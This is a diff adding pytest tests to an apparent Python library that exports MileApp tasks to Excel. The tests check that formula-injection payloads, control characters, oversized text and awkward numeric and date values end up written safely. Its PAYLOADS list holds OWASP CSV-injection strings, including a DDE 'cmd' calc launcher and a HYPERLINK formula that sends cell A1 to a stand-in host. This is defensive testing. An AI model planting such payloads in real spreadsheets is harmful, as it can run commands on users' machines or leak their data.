@@ -8,8 +8,10 @@ import datetime as dt
 from pathlib import Path
 from typing import Any
 
+import numpy as np
 import openpyxl
 import pandas as pd
+import pyarrow as pa
 import pytest
 
 import milekit
@@ -117,3 +119,208 @@ def test_an_unknown_time_zone_is_refused_before_anything_is_sent(
         with pytest.raises(milekit.errors.UsageError, match="time zone"):
             milekit.export("tasks", tmp_path / "t.xlsx", client=c, tz="Mars/Olympus")
     assert list(fresh.app.request_log) == []
+
+
+# --- what a task's text can do to a workbook -------------------------------------------------
+
+#: OWASP's CSV-injection payloads (cells starting with = + - @ TAB CR, and the DDE forms),
+#: plus an Excel error literal that openpyxl would store as an error cell
+PAYLOADS = [
+    '=HYPERLINK("http://x/?"&A1,"click")',
+    "=cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "=1+1",
+    "\t=1+1",
+    "\r=1+1",
+    "#N/A",
+]
+
+
+def _as_read(text: str) -> str:
+    """What any XML reader (Excel's included) gives back for ``text``: XML turns a CR into
+    a line feed (documented in docs/guides/exporting.md)."""
+    return text.replace("\r\n", "\n").replace("\r", "\n")
+
+
+def _retitle(c: milekit.Client, titles: list[str]) -> list[str]:
+    """Give the first tasks these titles through the API, as any MileApp user could."""
+    ids = list(milekit.tasks_frame(client=c, progress=False).index[: len(titles)])
+    for tid, title in zip(ids, titles, strict=True):
+        c.request("PATCH", f"/task/{tid}", json={"title": title})
+    return ids
+
+
+def _cells(ws: Any, column: str) -> dict[str, Any]:
+    """The cells of ``column`` keyed by the row's first cell (the id)."""
+    col = _header(ws).index(column)
+    return {row[0].value: row[col] for row in ws.iter_rows(min_row=2)}
+
+
+def _assert_text(cell: Any, text: str) -> None:
+    assert cell.data_type == "s" and cell.value == _as_read(text), (cell.value, cell.data_type)
+
+
+def test_formula_payloads_in_titles_are_text_in_the_streamed_export(
+    fresh: Sandbox, tmp_path: Path
+) -> None:
+    with milekit.Client(fresh.token, fresh.url, limiter=None) as c:
+        ids = _retitle(c, PAYLOADS)
+        info = milekit.export("tasks", tmp_path / "t.xlsx", client=c, progress=False)
+    for read_only in (False, True):
+        wb = openpyxl.load_workbook(info.path, read_only=read_only)
+        cells = _cells(wb["tasks"], "title")
+        for tid, text in zip(ids, PAYLOADS, strict=True):
+            _assert_text(cells[tid], text)
+
+
+def test_formula_payloads_are_text_everywhere_in_to_excel(fresh: Sandbox, tmp_path: Path) -> None:
+    """Data cells, a header, a flattened object's column and a child table's sheet."""
+    with milekit.Client(fresh.token, fresh.url, limiter=None) as c:
+        ids = _retitle(c, PAYLOADS)
+        df = milekit.tasks_frame(client=c, progress=False)
+    df["histories"] = None  # left out of the list (note 14): a history per payload
+    for tid, text in zip(ids, PAYLOADS, strict=True):
+        df.at[tid, "hub"] = {**df.at[tid, "hub"], "name": text}
+        df.at[tid, "histories"] = [{"_id": "h", "action": "patch", "notes": text}]
+    df = df.rename(columns={"content": "=cmd|' /C calc'!A0"})
+    path = milekit.to_excel(df, tmp_path / "t.xlsx", children=["task_histories"])
+    wb = openpyxl.load_workbook(path)
+    ws = wb["tasks"]
+    header = next(c for c in ws[1] if c.value == "=cmd|' /C calc'!A0")
+    assert header.data_type == "s"
+    titles, hubs = _cells(ws, "title"), _cells(ws, "hub.name")
+    notes = {}
+    for row in wb["task_histories"].iter_rows(min_row=2):
+        notes.setdefault(row[0].value, row[_header(wb["task_histories"]).index("notes")])
+    for tid, text in zip(ids, PAYLOADS, strict=True):
+        for cell in (titles[tid], hubs[tid], notes[tid]):
+            _assert_text(cell, text)
+    assert not [c for row in ws.iter_rows() for c in row if c.data_type == "f"]
+
+
+def test_a_control_character_is_replaced_and_warned_once(fresh: Sandbox, tmp_path: Path) -> None:
+    """A BEL in one title made the whole organisation's Excel export fail."""
+    with milekit.Client(fresh.token, fresh.url, limiter=None) as c:
+        ids = _retitle(c, ["ring\u0007bell", "two\x00\x1f"])
+        with pytest.warns(excel.ControlCharacterWarning, match=r"title: 2 cells") as got:
+            info = milekit.export("tasks", tmp_path / "t.xlsx", client=c, progress=False)
+    assert len(got) == 1
+    cells = _cells(openpyxl.load_workbook(info.path)["tasks"], "title")
+    assert cells[ids[0]].value == "ring\ufffdbell" and cells[ids[1]].value == "two\ufffd\ufffd"
+
+
+@pytest.mark.filterwarnings("always::milekit.MileWarning")
+def test_cli_export_of_a_control_character_writes_the_workbook(
+    fresh: Sandbox, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: Any
+) -> None:
+    from milekit.cli import main
+
+    with milekit.Client(fresh.token, fresh.url, limiter=None) as c:
+        _retitle(c, ["ring\u0007bell"])
+    monkeypatch.setenv("MILEAPP_TOKEN", fresh.token)
+    out = tmp_path / "t.xlsx"
+    args = ["export", "tasks", "-o", str(out), "--base-url", fresh.url, "--no-progress"]
+    assert main(args) == 0
+    err = capsys.readouterr().err
+    assert "milekit: warning:" in err and "title: 1 cell" in err
+    assert "ring\ufffdbell" in _column(openpyxl.load_workbook(out)["tasks"], "title")
+
+
+# --- values Excel cannot hold as they are ----------------------------------------------------
+
+
+def _one(df: pd.DataFrame, tmp_path: Path, **kw: Any) -> list[Any]:
+    """Write ``df`` alone; its cells, row by row, header first."""
+    path = milekit.to_excel(df, tmp_path / "x.xlsx", **kw)
+    ws = openpyxl.load_workbook(path).active
+    return [[c for c in row] for row in ws.iter_rows()]
+
+
+def test_integers_beyond_2_53_are_written_as_their_digits(tmp_path: Path) -> None:
+    big = [2**53, None, 2**53 + 1, -(2**53) - 1, 2**63 - 1]
+    rows = _one(pd.DataFrame({"n": pd.array(big, dtype="Int64")}), tmp_path)
+    got = [(r[0].value, r[0].data_type) for r in rows[1:]]
+    assert got == [
+        (2**53, "n"),
+        (None, "n"),
+        (str(2**53 + 1), "s"),
+        (str(-(2**53) - 1), "s"),
+        (str(2**63 - 1), "s"),
+    ]
+    rows = _one(pd.DataFrame({"u": np.array([1, 2**64 - 1], dtype="uint64")}), tmp_path)
+    assert [r[0].value for r in rows[1:]] == [1, str(2**64 - 1)]
+
+
+def test_infinities_and_nan_are_written_as_text(tmp_path: Path) -> None:
+    x = pa.array([float("inf"), None, float("-inf"), float("nan"), 1.5])
+    rows = _one(pd.DataFrame({"x": pd.array(x, dtype=pd.ArrowDtype(pa.float64()))}), tmp_path)
+    assert [r[0].value for r in rows[1:]] == ["inf", None, "-inf", "nan", 1.5]
+
+
+def test_naive_datetimes_are_written_as_given_never_shifted(tmp_path: Path) -> None:
+    naive = pd.to_datetime(["2026-01-01 10:00", None])
+    aware = pd.to_datetime(["2026-01-01 10:00"] * 2).tz_localize("UTC")
+    rows = _one(pd.DataFrame({"t": naive, "u": aware}), tmp_path, tz="Asia/Jakarta")
+    assert [c.value for c in rows[0]] == ["t", "u (Asia/Jakarta)"]
+    assert rows[1][0].value == dt.datetime(2026, 1, 1, 10) and rows[2][0].value is None
+    assert rows[1][1].value == dt.datetime(2026, 1, 1, 17)
+
+
+def test_bytes_durations_and_periods_are_written_as_text(tmp_path: Path) -> None:
+    df = pd.DataFrame(
+        {
+            "b": [b"\x00\xffA", None],
+            "d": pd.to_timedelta(["1h 2s", None]),
+            "p": pd.period_range("2026-01", periods=2, freq="M"),
+            "a": pd.array(
+                pa.array([dt.timedelta(days=2), None], pa.duration("us")),
+                dtype=pd.ArrowDtype(pa.duration("us")),
+            ),
+        }
+    )
+    rows = _one(df, tmp_path)
+    values = [[c.value for c in r] for r in rows[1:]]
+    assert values == [
+        ["00ff41", "P0DT1H0M2S", "2026-01", "P2DT0H0M0S"],
+        [None, None, "2026-02", None],
+    ]
+
+
+def test_text_beyond_the_cell_limit_is_refused_before_the_file_appears(tmp_path: Path) -> None:
+    df = pd.DataFrame(
+        {"note": ["ok", "x" * (excel.MAX_TEXT + 1)]}, index=pd.Index(["a", "b"], name="_id")
+    )
+    target = tmp_path / "x.xlsx"
+    with pytest.raises(milekit.errors.UsageError, match=r"'note'.*row 3 \(_id 'b'\).*32,767"):
+        milekit.to_excel(df, target)
+    assert list(tmp_path.iterdir()) == []
+    df.iloc[1, 0] = "x" * excel.MAX_TEXT  # exactly at the limit: written whole
+    rows = _one(df, tmp_path)
+    assert len(rows[2][1].value) == excel.MAX_TEXT
+
+
+def test_duplicate_column_names_are_refused_naming_them(tmp_path: Path) -> None:
+    df = pd.DataFrame([[1, 2, 3]], columns=["a", "b", "a"])
+    with pytest.raises(milekit.errors.UsageError, match=r"duplicate column names.*'a'"):
+        milekit.to_excel(df, tmp_path / "x.xlsx")
+    nested = pd.DataFrame({"hub": [{"name": "x"}], "hub.name": ["y"]})
+    with pytest.raises(milekit.errors.UsageError, match=r"'hub.name'"):
+        milekit.to_excel(nested, tmp_path / "x.xlsx")
+    assert list(tmp_path.iterdir()) == []
+
+
+def test_a_sheet_name_with_a_control_character_still_opens(tmp_path: Path) -> None:
+    path = milekit.to_excel({"hub\u0007a": pd.DataFrame({"x": [1]})}, tmp_path / "x.xlsx")
+    assert openpyxl.load_workbook(path).sheetnames == ["hub_a"]
+
+
+def test_an_export_with_text_beyond_the_cell_limit_leaves_no_file(
+    fresh: Sandbox, tmp_path: Path
+) -> None:
+    with milekit.Client(fresh.token, fresh.url, limiter=None) as c:
+        (tid,) = _retitle(c, ["x" * 40_000])
+        with pytest.raises(milekit.errors.UsageError, match=rf"'title'.*{tid}.*40,000"):
+            milekit.export("tasks", tmp_path / "t.xlsx", client=c, progress=False)
+    assert list(tmp_path.iterdir()) == []
